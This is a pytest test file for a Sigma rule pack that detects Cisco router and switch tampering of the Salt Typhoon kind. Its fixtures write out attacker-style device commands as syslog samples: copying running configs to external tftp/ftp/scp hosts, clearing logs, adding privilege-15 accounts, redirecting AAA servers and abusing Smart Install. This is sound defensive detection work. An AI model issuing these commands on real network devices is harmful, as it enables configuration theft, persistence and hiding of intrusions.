"""The package's own Cisco rule pack (detect/rules/cisco: router and network-device tampering in the style of
Salt Typhoon, CISA AA25-239A): every rule loads and is served, fires on its behaviour in the IOS, IOS-XE,
NX-OS and IOS-XR message forms (where the platform has the feature), stays quiet on the routine lookalikes,
and finds nothing above low in the public Cisco sample corpus.

One case holds every line (written here, plus the corpus); it is ingested and hunted once."""

from __future__ import annotations

import re
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

import breachscope.detect
from breachscope.detect.sigma.hunt import HuntResult, hunt
from breachscope.engines.duckdb_case import open_case
from breachscope.model.findings import level_at_least
from tests.conftest import DATASETS, run_ingest

PACK = Path(breachscope.detect.__file__).parent / "rules" / "cisco"
SAMPLES = DATASETS / "cisco-ios-syslog-samples"
ELASTIC = SAMPLES / "elastic-integrations" / "packages" / "cisco_ios" / "data_stream" / "log" / "_dev" / "test" \
    / "pipeline"
WAZUH_INI = SAMPLES / "wazuh" / "ruleset" / "testing" / "tests" / "cisco_ios.ini"
CISA = "https://www.cisa.gov/news-events/cybersecurity-advisories/aa25-239a"
FLAVOURS = ("IOS", "IOS-XE", "NX-OS", "IOS-XR")


# --- message forms ------------------------------------------------------------------------------------
# Each platform's header as it reaches a collector that keeps the device's own line (no relay header):
# IOS `seq: host: *time: %MN: text`, IOS-XE the same with a synced clock, NX-OS `: host: yyyy time tz: %MN:`,
# IOS-XR `seq: host: node:time: process[pid]: %MN : text`.

def ios(mn: str, text: str) -> tuple[str, str]:
    return "IOS", f"<189>{{seq}}: rtr-ios1: *Feb 19 {{clock}}.123 UTC: %{mn}: {text}"


def xe(mn: str, text: str) -> tuple[str, str]:
    return "IOS-XE", f"<189>{{seq}}: rtr-xe1: Feb 19 {{clock}}.456 UTC: %{mn}: {text}"


def nx(mn: str, text: str) -> tuple[str, str]:
    return "NX-OS", f"<189>: nx-sw1: 2025 Feb 19 {{clock}} UTC: %{mn}: {text}"


def xr(mn: str, text: str, proc: str = "eem_ed_syslog[312]") -> tuple[str, str]:
    return "IOS-XR", f"<190>{{seq}}: xr-pe1: RP/0/RSP0/CPU0:Feb 19 {{clock}}.789 UTC: {proc}: %{mn} : {text}"


def asa(mn: str, text: str) -> tuple[str, str]:
    return "ASA", f"<166>fw-edge1: Feb 19 2025 {{clock}}: %ASA-{mn}: {text}"


# How each platform logs a command: IOS/IOS-XE archive `notify syslog` (configuration commands) and an EEM
# applet that logs every command (exec commands too); NX-OS accounting; IOS-XR an EEM script.
def ios_cfg(cmd: str) -> tuple[str, str]:
    return ios("PARSER-5-CFGLOG_LOGGEDCMD", f"User:netadmin  logged command:{cmd}")


def ios_cli(cmd: str) -> tuple[str, str]:
    return ios("HA_EM-6-LOG", f"CLI_LOG: {cmd}")


def xe_cfg(cmd: str) -> tuple[str, str]:
    return xe("PARSER-5-CFGLOG_LOGGEDCMD", f"User:admin  logged command:{cmd}")


def xe_cli(cmd: str) -> tuple[str, str]:
    return xe("HA_EM-6-LOG", f"AUDIT_CLI: {cmd}")


def nx_cfg(*cmds: str) -> tuple[str, str]:
    return nx("AAA-6-AAA_ACCOUNTING_MESSAGE",
              f"update:192.0.2.55@pts/0:admin:configure terminal ; {' ; '.join(cmds)} (SUCCESS)")


def nx_cli(cmd: str) -> tuple[str, str]:
    return nx("AAA-6-AAA_ACCOUNTING_MESSAGE", f"update:10.10.5.5@pts/1:admin:{cmd} (SUCCESS)")


def xr_cli(cmd: str) -> tuple[str, str]:
    return xr("HA-HA_EEM-6-ACTION_SYSLOG_LOG_INFO", f"cli_audit.tcl: {cmd}")


# --- what each rule must find, per platform, and the lookalikes it must leave alone ----------------------
POSITIVES: dict[str, list[tuple[str, str]]] = {
    "cisco_smart_install_exploitation": [
        ios("SEC-6-IPACCESSLOGP", "list 110 permitted tcp 198.51.100.7(40112) -> 10.20.0.2(4786), 1 packet"),
        ios_cfg("vstack config tftp://198.51.100.7/sw-new.txt"),
        xe("FMANFP-6-IPACCESSLOGP", "R0/0: fman_fp_image: list SMI permitted tcp 203.0.113.40(51515) -> "
                                    "10.20.0.3(4786), 1 packet"),
        xe_cfg("vstack director 203.0.113.40"),
        asa("6-302013", "Built inbound TCP connection 1839 for outside:198.51.100.7/40113 (198.51.100.7/40113) "
                        "to inside:10.20.0.2/4786 (203.0.113.20/4786)"),
    ],
    "cisco_iosxe_webui_implant_account": [
        ios_cfg("username cisco_support privilege 15 secret 0 Sup0rt!"),
        xe("SEC_LOGIN-5-WEBLOGIN_SUCCESS", "Login Success [user: cisco_tac_admin] [Source: 0.0.0.0] "
                                           "[localport: 80] at 02:13:04 UTC Wed Feb 19 2025"),
        xe("SYS-5-CONFIG_P", "Configured programmatically by process SEP_webui_wsma_http from console as "
                             "cisco_sys_manager on line"),
    ],
    "cisco_config_change_external_source": [
        ios("SYS-5-CONFIG_I", "Configured from console by netadmin on vty1 (192.0.2.55)"),
        xe("SYS-5-CONFIG_I", "Configured from console by admin on vty0 (2001:db8:77::5)"),
        nx("VSHD-5-VSHD_SYSLOG_CONFIG_I", "Configured from vty by admin on 198.51.100.23@pts/0"),
        xr("MGBL-SYS-5-CONFIG_I", "Configured from console by clab on vty0 (203.0.113.9)", "config[66603]"),
    ],
    "cisco_login_external_source": [
        ios("SEC_LOGIN-5-LOGIN_SUCCESS", "Login Success [user: netadmin] [Source: 192.0.2.55] [localport: 22] "
                                         "at 02:13:04 UTC Wed Feb 19 2025"),
        xe("SSH-5-SSH2_USERAUTH", "User 'netadmin' authentication for SSH2 Session from 198.51.100.23 (tty = 1) "
                                  "using crypto cipher 'aes256-ctr', hmac 'hmac-sha2-256' Succeeded"),
        nx("AUTHPRIV-6-SYSTEM_MSG", "Accepted password for admin from 192.0.2.55 port 50122 ssh2 - sshd[12345]"),
        xr("SECURITY-SSHD-6-INFO_SUCCESS", "Successfully authenticated user 'cisco' from '203.0.113.9' on 'vty2'"
                                           "(cipher 'aes128-ctr', mac 'hmac-sha2-256')", "SSHD_[65845]"),
    ],
    "cisco_local_privileged_account": [
        ios_cfg("username cisco_tac privilege 15 secret 9 $9$Zk2q1Xv0dQ3s9E$hP4bV0m2YJw7"),
        xe_cfg("username svc-net privilege 15 algorithm-type scrypt secret S3cr3t!"),
        nx_cfg("username backup password 5 $5$Kq1$abc role network-admin"),
        xr_cli("username ops2 group root-lr"),
    ],
    "cisco_acl_permit_external": [
        ios_cfg("access-list 20 permit 198.51.100.0 0.0.0.255"),
        ios_cfg("permit 192.0.2.0 0.0.0.255"),
        xe_cfg("permit tcp host 203.0.113.45 any eq 22"),
        xe_cfg("permit ipv6 2001:db8:bad::/48 any"),
        nx_cfg("ip access-list MGMT", "30 permit ip 203.0.113.0/24 any"),
        xr_cli("20 permit ipv4 host 198.51.100.9 any"),
    ],
    "cisco_tunnel_external_endpoint": [
        ios_cfg("tunnel destination 192.0.2.66"),
        xe_cfg("crypto isakmp key s3cr3t address 203.0.113.200"),
        xe_cfg("set peer 203.0.113.200"),
        nx_cfg("interface tunnel 5", "tunnel destination 198.51.100.66"),
        xr_cli("tunnel destination 198.51.100.67"),
    ],
    "cisco_packet_capture": [
        ios_cli("monitor capture buffer CAPBUF size 2048 max-size 1500"),
        ios("BUFCAP-6-ENABLE", "Capture Point CAP1 enabled."),
        xe_cli("monitor capture CAP1 interface GigabitEthernet0/0/1 both"),
        xe_cfg("monitor session 1 type erspan-source"),
        nx_cli('ethanalyzer local interface inband capture-filter "port 49" write bootflash:t.pcap'),
        nx_cfg("monitor session 2", "source interface ethernet 1/1 both"),
        xr_cli("monitor-session CAPTURE ethernet"),
    ],
    "cisco_snmp_change": [
        ios_cfg("snmp-server community Tr0pic4l RW 20"),
        xe_cfg("snmp-server host 198.51.100.5 version 2c Tr0pic4l"),
        nx_cfg("snmp-server community ops7 group network-admin"),
        xr_cli("snmp-server community s3cr3t RW SystemOwner"),
    ],
    "cisco_aaa_server_redirection": [
        ios_cfg("tacacs-server host 192.0.2.60 key 7 0822455D0A16"),
        xe_cfg("address ipv4 192.0.2.60"),
        xe_cfg("server-private 198.51.100.60 key 0 tac4cs"),
        nx_cfg('radius-server host 198.51.100.61 key 7 "fewhg" authentication accounting'),
        xr_cli("tacacs-server host 203.0.113.62 port 49"),
    ],
    "cisco_guestshell_app_hosting": [
        ios_cfg("iox"),
        xe_cli("guestshell enable"),
        xe("IM-6-START_MSG", "R0/0: ioxman: app-hosting: Start succeeded: guestshell started successfully"),
        nx_cli("guestshell enable"),
        nx("VMAN-2-ACTIVATION_STATE", "Successfully activated virtual service 'guestshell+'"),
        nx_cfg("feature bash-shell"),
        xr_cli("bash"),
        xr_cli("appmgr application name tools activate type docker source tools"),
    ],
    "cisco_ssh_nonstandard_port": [
        ios_cfg("ip ssh port 57722 rotary 1"),
        xe_cfg("ip ssh port 2222 rotary 1"),
        xe("SEC_LOGIN-5-LOGIN_SUCCESS", "Login Success [user: admin] [Source: 10.10.5.5] [localport: 57722] "
                                        "at 02:13:04 UTC Wed Feb 19 2025"),
        nx_cfg("ssh port 2022"),
        xr_cli("run service sshd_operns start"),
        xr_cli("ssh server port 57722"),
    ],
    "cisco_logging_disabled": [
        ios_cfg("no logging host 10.10.0.50"),
        ios("SYS-6-LOGGINGHOST_STARTSTOP", "Logging to host 10.10.0.50 port 514 stopped - CLI initiated"),
        xe_cli("clear logging"),
        xe_cfg("no notify syslog"),
        nx_cfg("no logging server 10.10.0.50"),
        nx_cli("clear logging logfile"),
        xr_cli("no logging 10.10.0.50 vrf default"),
    ],
    "cisco_config_copied_out": [
        ios_cli("copy running-config tftp://192.0.2.66/wr1.cfg"),
        xe_cli("copy startup-config ftp://ftpuser:pw@192.0.2.66/wr1-startup.cfg"),
        xe_cli("show running-config | redirect scp://u@198.51.100.9/run.txt"),
        nx_cli("copy running-config tftp://198.51.100.9/nx.cfg vrf management"),
        xr_cli("copy running-config tftp://198.51.100.9/xr.cfg"),
        asa("5-111008", "User 'enable_15' executed the 'copy running-config tftp://203.0.113.9/asa.cfg' command."),
    ],
    "cisco_other_device_touches": [
        ios_cfg("ip http server"),
        ios_cfg("kron policy-list SAVE"),
        xe_cfg("ip http secure-server"),
        nx_cfg("feature nxapi"),
        nx_cfg("ntp server 198.51.100.123 use-vrf management"),
        xr_cli("ntp server 203.0.113.123"),
    ],
}

# Lookalikes: the same commands and messages in their routine or harmless form.
NEGATIVES: dict[str, list[tuple[str, str]]] = {
    "cisco_smart_install_exploitation": [
        ios("SEC-6-IPACCESSLOGP", "list 110 denied tcp 198.51.100.7(40112) -> 10.20.0.2(4786), 1 packet"),
        xe("FMANFP-6-IPACCESSLOGP", "R0/0: fman_fp_image: list SMI permitted tcp 10.20.0.1(51515) -> "
                                    "10.20.0.3(4786), 1 packet"),
        ios_cfg("no vstack"),
        ios_cli("show vstack config"),
    ],
    "cisco_iosxe_webui_implant_account": [
        xr_cli("username ops group cisco-support"),
        xe("SEC_LOGIN-5-WEBLOGIN_SUCCESS", "Login Success [user: admin] [Source: 10.10.5.5] [localport: 443] "
                                           "at 02:13:04 UTC Wed Feb 19 2025"),
    ],
    "cisco_config_change_external_source": [
        ios("SYS-5-CONFIG_I", "Configured from console by netadmin on vty0 (10.10.5.5)"),
        ios("SYS-5-CONFIG_I", "Configured from console by console"),
        nx("VSHD-5-VSHD_SYSLOG_CONFIG_I", "Configured from vty by admin on 172.16.3.4@pts/0"),
        xr("MGBL-SYS-5-CONFIG_I", "Configured from console by clab on vty0 (192.168.121.1)", "config[66603]"),
        xr("MGBL-CONFIG-6-DB_COMMIT", "Configuration committed by user 'clab'. Use 'show configuration commit "
                                      "changes 1000000004' to view the changes.", "config[66603]"),
    ],
    "cisco_login_external_source": [
        ios("SEC_LOGIN-5-LOGIN_SUCCESS", "Login Success [user: netadmin] [Source: 10.10.5.5] [localport: 22] "
                                         "at 02:13:04 UTC Wed Feb 19 2025"),
        ios("SEC_LOGIN-4-LOGIN_FAILED", "Login failed [user: admin] [Source: 198.51.100.23] [localport: 22] "
                                        "[Reason: Login Authentication Failed] at 02:13:04 UTC Wed Feb 19 2025"),
        xe("SSH-5-SSH2_USERAUTH", "User 'admin' authentication for SSH2 Session from 198.51.100.23 (tty = 1) "
                                  "using crypto cipher 'aes256-ctr', hmac 'hmac-sha2-256' Failed"),
        nx("AUTHPRIV-6-SYSTEM_MSG", "Accepted password for admin from 10.10.5.5 port 50122 ssh2 - sshd[12345]"),
        xr("SECURITY-SSHD-6-INFO_SUCCESS", "Successfully authenticated user 'cisco' from '172.20.1.1' on 'vty2'"
                                           "(cipher 'aes128-ctr', mac 'hmac-sha2-256')", "SSHD_[65845]"),
    ],
    "cisco_local_privileged_account": [
        ios_cfg("username ops privilege 1 secret 5 $1$abcd$efgh"),
        ios_cfg("no username cisco_tac"),
        nx_cfg("username viewer password 5 $5$abc role network-operator"),
        xr_cli("username ops group operator"),
    ],
    "cisco_acl_permit_external": [
        ios_cfg("permit tcp host 10.10.5.6 any eq 22"),
        ios_cfg("20 permit ip any any"),
        xe_cfg("deny ip host 203.0.113.45 any"),
        ios("SEC-6-IPACCESSLOGP", "list 150 permitted tcp 192.168.100.12(59832) -> 81.2.69.144(80), 1 packet"),
        xr("ACL-IPV4_ACL-6-IPACCESSLOGP", "access-list MGMT permit tcp 89.160.20.128(39527) -> 10.1.1.1(22), "
                                          "1 packet", "ipv4_acl_mgr[310]"),
        nx_cfg("ip access-list MGMT", "30 permit ip 10.10.0.0/16 any"),
    ],
    "cisco_tunnel_external_endpoint": [
        ios_cfg("tunnel destination 10.255.0.2"),
        ios_cfg("tunnel source 203.0.113.1"),
        xe_cfg("set peer 172.31.0.9"),
    ],
    "cisco_packet_capture": [
        ios_cli("show monitor capture CAP1 buffer brief"),
        xe_cfg("no monitor session 1"),
        nx_cli("show monitor session all"),
        ios("BUFCAP-6-DISABLE", "Capture Point CAP1 disabled."),
    ],
    "cisco_snmp_change": [
        ios_cfg("snmp-server community public RO 10"),
        xe_cfg("snmp-server host 10.10.0.50 version 2c n0c"),
        ios_cfg("snmp-server location Tokyo-DC1 rack 7"),
        nx_cfg("snmp-server community ro7 group network-operator"),
    ],
    "cisco_aaa_server_redirection": [
        xe_cfg("address ipv4 10.10.0.20"),
        ios_cfg("tacacs-server host 172.16.10.5 key 7 0822455D0A16"),
        xe_cfg("aaa group server tacacs+ TACGRP"),
        xe_cfg("server name TAC2"),
    ],
    "cisco_guestshell_app_hosting": [
        xe_cli("guestshell destroy"),
        xe_cli("show app-hosting list"),
        xe_cfg("no iox"),
        xe("IM-6-DEACTIVATE_MSG", "R0/0: ioxman: app-hosting: Deactivate succeeded: guestshell deactivated "
                                  "successfully"),
    ],
    "cisco_ssh_nonstandard_port": [
        ios_cfg("ip ssh version 2"),
        xe_cfg("ip ssh port 22 rotary 1"),
        nx("AUTHPRIV-6-SYSTEM_MSG", "Accepted password for admin from 10.10.5.5 port 57722 ssh2 - sshd[12345]"),
        ios("SEC-6-IPACCESSLOGP", "list MGMT-IN denied tcp 198.18.4.7(57722) -> 10.10.255.9(22), 1 packet"),
        ios("SEC_LOGIN-5-LOGIN_SUCCESS", "Login Success [user: netadmin] [Source: 10.10.5.5] [localport: 22] "
                                         "at 02:13:04 UTC Wed Feb 19 2025"),
    ],
    "cisco_logging_disabled": [
        ios_cfg("logging host 10.10.0.50"),
        ios_cfg("logging trap informational"),
        ios_cfg("no logging console"),
        ios("SYS-6-LOGGINGHOST_STARTSTOP", "Logging to host 10.10.0.50 port 514 started - CLI initiated"),
    ],
    "cisco_config_copied_out": [
        ios_cli("copy running-config tftp://10.10.0.60/backup/rtr-ios1.cfg"),
        ios_cli("copy running-config startup-config"),
        xe_cli("copy tftp://198.51.100.9/new.cfg running-config"),
        nx_cli("copy running-config startup-config"),
    ],
    "cisco_other_device_touches": [
        ios_cfg("no ip http server"),
        ios_cfg("ntp server 10.10.0.10"),
        xe_cfg("ip http secure-server trustpoint TP-self-signed-1"),
    ],
}

# Routine work from the simulator's change windows, the defenders' own responses and everyday noise:
# nothing above low from any rule of the pack.
ROUTINE: list[tuple[str, str]] = [
    ios("SEC_LOGIN-5-LOGIN_SUCCESS", "Login Success [user: netadmin] [Source: 10.10.5.5] [localport: 22] "
                                     "at 22:14:33 JST Tue Jan 14 2025"),
    *(ios_cfg(c) for c in (
        "interface GigabitEthernet1/0/21", "description floor7-desk11", "switchport access vlan 128",
        "ntp server 10.10.0.10", "ntp server 10.10.0.11", "ip access-list extended MGMT-IN",
        "permit tcp host 10.10.5.6 any eq 22", "permit udp host 10.10.0.50 any eq 161", "logging host 10.10.0.50",
        "logging trap informational", "snmp-server location Tokyo-DC1 rack 22", "ip access-list extended ORD-A-IN",
        "10 deny ip host 10.20.1.5 host 10.20.1.9 log", "20 permit ip any any", "interface GigabitEthernet0/0/2",
        "ip access-group ORD-A-IN in", "shutdown", "archive", "log config", "logging enable", "notify syslog",
        "path tftp://10.10.0.60/$h-$t", "event manager applet CLI_LOG", 'action 1.0 syslog msg "$_cli_msg"')),
    ios("SYS-5-CONFIG_I", "Configured from console by netadmin on vty0 (10.10.5.5)"),
    ios("SEC-6-IPACCESSLOGP", "list MGMT-IN denied tcp 198.18.4.7(50312) -> 10.10.255.9(22), 1 packet"),
    ios("SNMP-3-AUTHFAIL", "Authentication failure for SNMP request from host 198.18.9.1"),
    ios("SSH-5-SSH2_USERAUTH", "User 'adm_kato' authentication for SSH2 Session from 10.10.5.5 (tty = 0) using "
                               "crypto cipher 'aes256-ctr', hmac 'hmac-sha2-256' Succeeded"),
    ios("LINEPROTO-5-UPDOWN", "Line protocol on Interface Tunnel101, changed state to up"),
    *(ios_cli(c) for c in ("show running-config", "show logging", "show monitor capture", "show vstack status",
                           "show ip ssh", "terminal length 0", "copy running-config tftp://10.10.0.60/r1.cfg")),
    *(nx_cli(c) for c in ("show running-config", "copy running-config startup-config", "show accounting log")),
    nx_cfg("interface Ethernet1/5", "description uplink to core", "no shutdown"),
    xr("MGBL-CONFIG-6-DB_COMMIT", "Configuration committed by user 'netops'. Use 'show configuration commit "
                                  "changes 1000000261' to view the changes.", "config[66279]"),
    xr_cli("show configuration commit changes last 1"),
]


def wrapped(line: str) -> str:
    """The same line behind a collector's RFC 3164 header (how most Cisco syslog is stored)."""
    return "<189>Feb 19 02:13:04 10.0.0.1 " + line.split(">", 1)[1].lstrip(": ")


@dataclass(frozen=True)
class Line:
    rule: str  # the rule it is about ("" for routine lines)
    flavour: str
    kind: str  # positive | negative | routine | wrapped
    text: str


def lines() -> list[Line]:
    out = [Line(r, f, "positive", t) for r, ls in POSITIVES.items() for f, t in ls]
    out += [Line(r, f, "negative", t) for r, ls in NEGATIVES.items() for f, t in ls]
    out += [Line("", f, "routine", t) for f, t in ROUTINE]
    out += [Line(r, f, "wrapped", t) for r, ls in POSITIVES.items() for f, t in ls]
    return out


def fill(i: int, text: str) -> str:
    return text.format(seq=1000 + i, clock=f"02:{13 + i // 60:02d}:{i % 60:02d}")


def wazuh_lines() -> list[str]:
    return [line.split(" pass = ", 1)[1] for line in WAZUH_INI.read_text().splitlines()
            if line.startswith("log ") and " pass = " in line]


@dataclass
class Hunted:
    result: HuntResult
    files: dict[str, list[Line]]  # file name -> its lines, in order (src_record is the 1-based line number)
    corpus_rows: int
    corpus_files: frozenset[str]

    def fired(self, name: str, record: int, min_level: str = "medium") -> dict[str, str]:
        """rule file stem -> level, for the findings at `min_level` or above on one line of one file."""
        return {Path(f["rule_path"]).stem: f["level"] for f in self.result.findings.to_pylist()
                if Path(f["src_file"]).name == name and f["src_record"] == record
                and level_at_least(f["level"], min_level)}

    def cases(self, name: str, kind: str) -> list[tuple[int, Line]]:
        return [(i + 1, ln) for i, ln in enumerate(self.files[name]) if ln.kind == kind]


@pytest.fixture(scope="module")
def hunted(tmp_path_factory: pytest.TempPathFactory) -> Hunted:
    root = tmp_path_factory.mktemp("cisco_pack")
    device = [ln for ln in lines() if ln.kind != "wrapped"]
    relayed = [ln for ln in lines() if ln.kind == "wrapped"]
    (root / "devices.log").write_text("".join(fill(i, ln.text) + "\n" for i, ln in enumerate(device)))
    (root / "relayed.log").write_text("".join(wrapped(fill(i, ln.text)) + "\n" for i, ln in enumerate(relayed)))
    (root / "wazuh-cisco-ios.log").write_text("".join(x + "\n" for x in wazuh_lines()))
    corpus = [*sorted(ELASTIC.glob("*.log")), root / "wazuh-cisco-ios.log"]
    run_ingest([root / "devices.log", root / "relayed.log", *corpus], root / "case", year=2025)
    names = frozenset(p.name for p in corpus)
    with open_case(root / "case") as case:
        files = [Path(f).name for (f,) in case.rows("SELECT src_file FROM syslog")]
        result = hunt(case, [PACK])
    return Hunted(result, {"devices.log": device, "relayed.log": relayed}, sum(f in names for f in files), names)


def rule_files() -> list[Path]:
    return sorted(PACK.glob("*.yml"))


# --- the pack itself ------------------------------------------------------------------------------------

def test_every_rule_file_is_valid_sigma_and_served(hunted: Hunted) -> None:
    """Every file is one Sigma rule with the metadata the pack promises, loads without a problem and is
    run (no logsource left unserved), and every rule has a test line."""
    result = hunted.result
    assert not result.problems, result.problems
    assert not result.plan.skipped, [(s.rule.path, s.reason) for s in result.plan.skipped]
    assert len(result.ruleset.rules) == len(rule_files()) == result.plan.rule_count
    for path in rule_files():
        doc = yaml.safe_load(path.read_text())
        assert str(uuid.UUID(doc["id"])) == doc["id"], path.name
        assert doc["status"] == "experimental" and doc["author"] == "breachscope", path.name
        assert doc["title"] and doc["description"] and doc["falsepositives"] and doc["date"], path.name
        assert doc["logsource"] == {"product": "cisco", "service": "aaa"}, path.name
        assert CISA in doc["references"], path.name
        assert any(re.fullmatch(r"attack\.t\d{4}(\.\d{3})?", t) for t in doc["tags"]), path.name
        assert doc["level"] in ("medium", "high", "critical"), path.name
    ids = [yaml.safe_load(p.read_text())["id"] for p in rule_files()]
    assert len(set(ids)) == len(ids)
    assert set(POSITIVES) == set(NEGATIVES) == {p.stem for p in rule_files()}


def test_every_platform_with_the_feature_is_covered() -> None:
    """IOS, IOS-XE, NX-OS and IOS-XR lines for every rule, except where the platform has no such feature
    (Smart Install and the IOS XE web UI exist on IOS and IOS-XE only; the guest-shell rule's IOS line is `iox`,
    as IOS 15 on IR800 routers hosts IOx applications)."""
    only = {"cisco_smart_install_exploitation": {"IOS", "IOS-XE"},
            "cisco_iosxe_webui_implant_account": {"IOS", "IOS-XE"}}
    for rule_name, cases in POSITIVES.items():
        assert only.get(rule_name, set(FLAVOURS)) <= {f for f, _ in cases}, rule_name


# --- behaviour ------------------------------------------------------------------------------------------

def test_each_rule_fires_on_its_behaviour_on_every_platform(hunted: Hunted) -> None:
    missed = []
    for record, ln in hunted.cases("devices.log", "positive"):
        fired = hunted.fired("devices.log", record)
        if ln.rule not in fired:
            missed.append(f"{ln.rule} [{ln.flavour}] {fill(record - 1, ln.text)}")
    assert not missed, "\n".join(missed)


def test_lookalikes_do_not_fire_the_rule(hunted: Hunted) -> None:
    wrong = []
    for record, ln in hunted.cases("devices.log", "negative"):
        fired = hunted.fired("devices.log", record)
        if ln.rule in fired:
            wrong.append(f"{ln.rule} [{ln.flavour}] {fill(record - 1, ln.text)}")
    assert not wrong, "\n".join(wrong)


def test_routine_changes_give_nothing_above_low(hunted: Hunted) -> None:
    noisy = {fill(record - 1, ln.text): fired for record, ln in hunted.cases("devices.log", "routine")
             if (fired := hunted.fired("devices.log", record))}
    assert not noisy, noisy


def test_public_cisco_corpus_stays_below_one_finding_above_low_per_10k_lines(hunted: Hunted) -> None:
    above_low = [f for f in hunted.result.findings.to_pylist()
                 if Path(f["src_file"]).name in hunted.corpus_files and level_at_least(f["level"], "medium")]
    assert hunted.corpus_rows >= 70  # the 58 elastic lines and 21 Wazuh lines were all read
    assert len(above_low) / hunted.corpus_rows * 10_000 <= 1, above_low


def test_each_rule_fires_on_lines_behind_a_relay_header(hunted: Hunted) -> None:
    missed = [f"{ln.rule} [{ln.flavour}]" for record, ln in hunted.cases("relayed.log", "wrapped")
              if ln.rule not in hunted.fired("relayed.log", record)]
    assert not missed, missed
